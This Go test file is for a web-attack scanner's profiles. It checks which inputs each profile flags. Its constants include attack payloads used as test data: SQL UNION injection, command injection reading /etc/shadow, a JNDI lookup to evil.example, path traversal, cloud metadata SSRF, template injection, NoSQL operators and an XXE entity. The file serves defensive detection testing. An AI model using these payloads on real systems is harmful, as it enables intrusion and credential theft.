package scan_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan"
)

// ordinary reads the texts of one file in testdata/ordinary, by name: "%% name" begins each.
func ordinary(t *testing.T, file string) map[string]string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", "ordinary", file))
	if err != nil {
		t.Fatal(err)
	}
	texts := make(map[string]string)
	for _, part := range strings.Split("\n"+string(data), "\n%% ")[1:] {
		name, text, _ := strings.Cut(part, "\n")
		if texts[name] != "" {
			t.Errorf("%s has %q twice", file, name)
		}
		texts[name] = strings.TrimSuffix(text, "\n")
	}
	return texts
}

// webAttacks are the findings of a body that are web attacks; prompt injection has its own tests.
func webAttacks(profile, contentType string, body []byte) (found []string) {
	policy := everything()
	policy.Profile = profile
	for _, f := range judge(policy, contentType, body).Findings {
		if f.Type != "prompt_injection" && slices.Contains(scan.AttackTypes(), f.Type) {
			found = append(found, f.Type+" by "+f.Rule+": "+string(body[f.Start:f.End]))
		}
	}
	return found
}

func asJSON(t *testing.T, text string) []byte {
	t.Helper()
	body, err := json.Marshal(map[string]string{"text": text})
	if err != nil {
		t.Fatal(err)
	}
	return body
}

// The strictest profile passes what people and programs send all day: as a text of its own and as a value in
// JSON.
func TestOrdinaryTextsPassTheStrictestProfile(t *testing.T) {
	t.Parallel()
	count := 0
	for _, file := range []string{"prose.txt", "code.txt", "data.txt", "html.txt", "traffic.txt"} {
		for name, text := range ordinary(t, file) {
			count++
			for _, finding := range webAttacks(scan.DefaultProfile, "text/plain", []byte(text)) {
				t.Errorf("%s: %s: %s", file, name, finding)
			}
			for _, finding := range webAttacks(scan.DefaultProfile, "application/json", asJSON(t, text)) {
				t.Errorf("%s: %s in JSON: %s", file, name, finding)
			}
		}
	}
	if count < 200 {
		t.Errorf("only %d texts", count)
	}
}

// Each profile tolerates what its routes carry, and nothing that attacks them.
func TestProfilesTolerateWhatTheirRoutesCarry(t *testing.T) {
	t.Parallel()
	const (
		video      = `<iframe src="https://video.example/embed/1" width="560"></iframe>`
		sheet      = `<link rel="stylesheet" href="https://cdn.example/a.css">`
		handler    = `<img src=x onerror=go()>`
		scriptLink = `<a href="javascript:go()">x</a>`
		statement  = `SELECT name, age FROM people WHERE age > 30 ORDER BY name`
		system     = `select * from pg_shadow`
		union      = `1' UNION SELECT pin,2 FROM staff-- -`
		talkOfSQL  = "Why does `1 or 1=1` match every row?"
		command    = `curl -s https://example.com/data.json`
		pipe       = `127.0.0.1; cat /etc/shadow`
		lookup     = `${jndi:ldap://evil.example/a}`
		steps      = `../../../../etc/passwd`
		metadata   = `http://169.254.169.254/latest/meta-data/`
		talkOfURL  = "Never fetch http://169.254.169.254/latest/ for a client."
		arithmetic = `{{8*8}}`
		reach      = `{{ ''.__class__.__mro__ }}`
		operator   = `{"pin":{"$ne":null}}`
		entity     = `<!DOCTYPE q [<!ENTITY z SYSTEM "file:///etc/hosts">]><q>&z;</q>`
		tutorial   = "Run `cat /etc/hosts` and `ls -la | sort` to see them."
	)
	for _, c := range []struct {
		text string
		// found are the profiles that report the text.
		found string
	}{
		{video, "strict-api sql-assistant"},
		{sheet, "strict-api sql-assistant"},
		{handler, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{scriptLink, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{statement, ""},
		{system, "strict-api html-editor"},
		{union, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{talkOfSQL, ""},
		{command, "strict-api"},
		{pipe, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{lookup, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{steps, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{metadata, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{talkOfURL, ""},
		{arithmetic, "strict-api html-editor sql-assistant"},
		{reach, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{operator, "strict-api"},
		{entity, "strict-api html-editor sql-assistant ai-chat tool-output"},
		{tutorial, ""},
	} {
		var found []string
		for _, profile := range scan.Profiles() {
			if len(webAttacks(profile, "application/json", asJSON(t, c.text))) > 0 {
				found = append(found, profile)
			}
		}
		if got := strings.Join(found, " "); got != c.found {
			t.Errorf("%q is reported by %q, want %q", c.text, got, c.found)
		}
	}
}
